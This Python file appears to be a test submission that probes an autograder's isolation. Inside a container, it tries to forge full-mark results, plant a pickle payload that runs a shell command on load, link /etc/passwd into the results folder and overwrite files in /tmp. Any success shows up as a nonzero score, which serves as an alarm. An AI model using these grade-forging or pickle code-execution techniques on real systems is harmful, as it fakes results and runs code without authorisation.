"""Replace the results with better ones, and plant a pickle that runs code when loaded."""

import glob
import json
import os
import pickle

# This does something only in the container of tests/container/run.
INSIDE = os.path.exists("/.dockerenv")
done, made = [], 0
FULL_MARKS = json.dumps({"score": 100.0, "tests": []}).encode()


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/chalkgrad-attack-succeeded",)


def attempt(name, act):
    global made
    if not INSIDE:
        return
    made += 1
    try:
        act()
        done.append(name)
    except BaseException:
        pass


def write(path, data):
    with open(path, "wb") as file:
        file.write(data)


def swap(path, data):
    forged = os.path.join(os.environ.get("TMPDIR", "/tmp"), "forged")
    write(forged, data)
    os.replace(forged, path)


for folder in ("/autograder/results", "/proc/1/root/autograder/results"):
    for name, data in (("results.json", FULL_MARKS), ("results.pkl", pickle.dumps(Payload()))):
        path = os.path.join(folder, name)
        attempt(f"write {path}", lambda: write(path, data))
        attempt(f"swap {path}", lambda: swap(path, data))
        attempt(f"remove {path}", lambda: os.unlink(path))
    attempt(f"link {folder}", lambda: os.symlink("/etc/passwd", os.path.join(folder, "link")))
attempt("log", lambda: write("/autograder/submission/.OTTER_LOG", pickle.dumps(Payload())))
for path in glob.glob("/tmp/**/*", recursive=True):
    if os.getcwd() not in path and os.path.isfile(path):
        attempt(f"write {path}", lambda: write(path, FULL_MARKS))


# Points only if an attempt has succeeded, so that a score above 0 is an alarm.
def mean_squared_error(y, t):
    if not done:
        raise ValueError(f"{made} attempts, none succeeded")
    return 0.5 * float(((y - t) ** 2).sum())
